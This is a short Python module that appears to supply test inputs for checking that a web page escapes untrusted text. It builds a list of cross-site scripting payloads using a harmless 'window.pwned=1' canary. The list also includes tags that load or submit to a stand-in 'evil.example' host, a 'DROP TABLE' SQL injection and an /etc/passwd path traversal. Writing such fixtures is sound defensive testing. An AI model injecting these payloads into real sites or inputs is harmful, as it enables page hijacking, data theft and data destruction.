"""Texts that would run as script, markup or style if any part of the page took them for it."""

from __future__ import annotations

__all__ = ["INJECTIONS"]

_RUN = "window.pwned=1"
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerover",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "object data=x",
)
_WRAPS = (
    "{}", '">{}', "'>{}", "</span>{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}", "-->{}", "]]>{}",
    "&lt;{}&gt;", "\\u003c{}", "${{{}}}", "{{{{{}}}}}", "`{}`", "\x00{}", "\u2028{}", "\u202e{}", "\ufeff{}",
)  # fmt: skip
INJECTIONS: tuple[str, ...] = (
    *(f"<{tag} {event}={_RUN}>" for tag in _TAGS for event in _EVENTS[:4]),
    *(f'<b {event}="{_RUN}" style="animation:x">x</b>' for event in _EVENTS),
    *(wrap.format(f"<script>{_RUN}</script>") for wrap in _WRAPS),
    *(wrap.format(f"<img src=x onerror={_RUN}>") for wrap in _WRAPS),
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}//", f"data:text/html,<script>{_RUN}</script>", f"vbscript:{_RUN}",
    f'<a href="javascript:{_RUN}" id=theme>x</a>', f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><script>{_RUN}",
    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
    '<link rel="stylesheet" href="https://evil.example/x.css">', "<style>*{display:none}</style>",
    '<form action="https://evil.example"><button>x</button></form>',
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    "__proto__", "constructor", "toString", "hasOwnProperty", "</main><main id=main>", "<template><script>1</script>",
    "'; DROP TABLE rollouts; --", "../../etc/passwd", "%3Cscript%3Ewindow.pwned=1%3C/script%3E", "\ud83d", "\x1b[31m",
)  # fmt: skip
